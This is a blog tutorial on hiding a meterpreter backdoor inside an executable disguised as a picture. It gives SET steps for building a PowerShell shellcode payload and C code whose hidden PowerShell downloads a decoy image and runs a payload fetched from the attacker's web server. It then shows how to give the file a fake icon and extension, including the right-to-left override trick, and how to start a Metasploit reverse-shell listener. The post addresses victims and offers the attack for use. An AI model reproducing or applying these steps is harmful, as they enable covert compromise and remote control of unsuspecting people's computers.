Tuesday, 9 February 2016

How to Hide a Virus Inside of a Fake Picture

How to Hide a Virus Inside of a Fake Picture

In my last tutorial, I talked about creating a virus inside of a Word Document in the scenario of a mass-mailer attack. In this post, however, I'm going to be covering creating a fake image or screenshot with a meterpreter backdoorhidden inside to be used in a similar scenario.

Step 1: Creating the Virus

Yet again, I'll be using the same technique that I used in my original tutorial... but with a slight twist. I'm going to make the executable also open a picture of our choosing.

Part I: Creating the Powershell Payload

We'll be using the Social Engineering Toolkit to create our powershell payload. To open it, type this inconsole:
From there, type 1 for "social engineering attacks", then 9 for "powershell attack vectors", and finally 1 for "powershell alphanumeric shellcode injector".
Now, you'll need to provide an "LHOST". If you didn't already know, this is your attacker machine's local IP adress (so long as you're attacking over a local area network). To determine it, open a new terminal window and type in:
Scroll up to the top to find the interface that's connected to your network (in my case, that's "eth0"). Find what I've highlighted, "inet", and next to it you'll find your local IP adress (in my case, it's This is what you'll input for your LHOST.
Next, it'll prompt you to type in a "port for the reverse". It's referring to the "LPORT". Usually, I use "4444" as it's a meterpreter convention, but you can use any port you want so long as you remember it.
Then it will prompt you if you want to "start the listener now". Type "no", we'll do this manually later. For now we're done with SET.
Now we'll need to move that payload over to our apache webserver. To do so, open a terminal and type:
mv /root/.set/reports/powershell/x86_powershell_injection.txt /var/www/html/payload.txt
However, if you're still using Kali Linux 1 (not 2), use this command:
mv /root/.set/reports/powershell/x86_powershell_injection.txt /var/www/payload.txt
This is because, in Kali Linux version 2, the apache root directory was moved to the "html" folder inside of /var/www/.
We'll also need an actual image to display to our user when they run the file. I'll be using thisone:
Image via quickmeme.com
Save this as screenshot.jpgin your apache webserver folder (/var/www in kali 1 and /var/www/html in kali 2). We'll be using it later.
Now, simply type:
service apache2 start
...and your webserver should be started.

Part II: Creating the Executable

To create the virus, I'm using windows notepad and MinGW's "gcc". The code for the virus is as follows:system("powershell.exe -w hidden -c (new-object System.Net.WebClient).Downloadfile('', 'C:\\Users\\Public\\screenshot.jpg') & start C:\\Users\\Public\\screenshot.jpg & powershell.exe \"IEX ((new-object net.webclient).downloadstring(''))\"");
return 0;
Remember to change "", as your LHOST (or local IP address) will likely be different.
If you read my first tutorial, you might notice the added code: powershell.exe -w hidden -c (new-object System.Net.WebClient).Downloadfile('', 'C:\\Users\\Public\\screenshot.jpg') & start C:\\Users\\Public\\screenshot.jpg
This downloads the picture from our webserver and opens it in the default picture viewer, so that once the virus is opened, it doesn't raise any suspicions.
Save this as "evil.c", then compile it using your favorite c compiler. In my case, I'm using gcc so I type:
gcc.exe D:\Hacking\evil.c -o D:\Hacking\evil.exeNow we have an executable that both downloads and opens and image, and runs our malicious payload!

Step 2: Making the Executable 'Look' Like a Picture

First we are going to make our executable "look" like an image. Currently, the icon for it is the default one:
However, this won't trick anyone. Let's change that.
We're going to convert the screenshot.jpg image into an icon. To do that, I'll just be using an online converter.
Now we're left with an icon file that matches the image that the executable will open. We'll use Resource Hacker to set the executable's icon to it.
First, open resource hacker and click on File --> Open
From there, choose the executable that we made in step one. Now click the Add Binary or Image Resource button and select our .ico file.
Finally, click AddResource and Save.
Now our executable looks more convincing...
But we aren't done quite yet.

Step 3: Renaming the Executable

The last part of making our virus seem like an actual picture is changing its name. If the user sees a .exe extension, they're almost certain not to open it. So, we're going to employ a few techniques to fix this.

Possibility I: The Classic ".jpg.exe"By default, windows hides known file extensions. The setting looks like this:
Because of this, it's possible to get away with renaming the executable to "evil.jpg.exe", and it might fool the majority of users. To users who didn't change the setting, our executable will look like this:

Possibility II: Screenshot.scr

Possibility one might work in the majority of cases, but we can't always rely on our victim not having changed their settings. So, another possibility is to change the extension from ".exe" to ".scr".
Don't worry though, the .scr extension runs exactly the same way as .exe and won't break our virus. The difference is that we can trick our victim into thinking that .scr means the file is a screenshot.

Possibility III: Unitrix

Unitrix is actually the name of a virus first seen in the wild. It was given its name because of the way it tricked its victims into thinking it wasn't an executable. The Unitrix virus used the Right-to-Left Override character (RLO) so that the user would see something like "exe.jpg" while the system would see "gpj.exe" with a unicode character in front. Thus, if use use this, we can trick victims who wouldn't have fallen for the previous two possibilities. Here's an example:First, right click on your executable and click 'Rename'. Then, type "geometric agpj.scr"
Put your cursor just before gpj, right click, and hover over "Insert Unicode Control Character"
Choose "Start of right-to-left override" and the name should now read "geometric arcs.jpg"
Bonus: This technique is sometimes caught by antivirus because even without having a signature for your executable, some AV's might automatically report it as malicious due to it having the RLO character in its name.

Step 4: Setting Up the ListenerLastly, we need to set up a listener to wait for a meterpreter session. Fire up the metasploit framework by typing:
Once it loads, type:
use multi/handler
Now, you'll need to type a series of options so I'll list them out for you:
  • set PAYLOAD windows/meterpreter/reverse_tcp
  • set LHOST
  • set LPORT 4444
Again, remember to changeLHOST to your local IP address, and change LPORT if you used something other than 4444.
Finally, type "exploit" and hit enter to start the listener. As soon as the victim runs our executable, our picture will be downloaded and opened in the default picture viewer, our malicious payload will be executed, and we will get a meterpreter session.


This post will likely bethe last in my "disguising viruses" series (my previous twoposts and now this one),so I hope you enjoyed it! If you have any questionsabout this post, or are having any trouble, besure to leave a comment.
Thanks for reading,

No comments:

Post a Comment